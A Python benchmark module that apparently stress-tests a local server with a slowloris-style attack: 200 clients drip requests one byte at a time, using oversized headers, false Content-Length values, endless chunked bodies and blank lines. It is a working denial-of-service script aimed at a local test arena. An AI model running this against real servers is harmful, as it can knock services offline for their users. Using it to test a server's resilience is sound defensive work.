"""Clients that send one byte at a time, and never finish."""

import asyncio
from contextlib import suppress

from benchmarks.attack.arena import Arena
from benchmarks.attack.exchange import Link, request

_CLIENTS = 200
_BYTE_SECONDS = 0.05


async def attack(arena: Arena) -> None:
    """Drip requests of several kinds on many connections."""
    plain = request("ListTables", {})
    head, _, _ = plain.partition(b"Content-Length")
    kinds = (
        plain,  # finishes, late
        b"POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + b"a" * 10_000,
        head + b"Content-Length: 100000\r\n\r\n" + b" " * 10_000,
        head + b"Transfer-Encoding: chunked\r\n\r\n" + b"1\r\n \r\n" * 10_000,
        b"\r\n" * 10_000,
    )

    async def drip(number: int) -> None:
        kind = kinds[number % len(kinds)]
        while arena.is_on:
            with suppress(OSError):  # the server may end a connection that takes too long
                link = await Link.open(arena.port)
                arena.sent += 1
                try:
                    for byte in kind:
                        if not arena.is_on:
                            return
                        await link.send(bytes((byte,)))
                        await asyncio.sleep(_BYTE_SECONDS)
                finally:
                    link.close()

    await arena.crowd(_CLIENTS, drip)
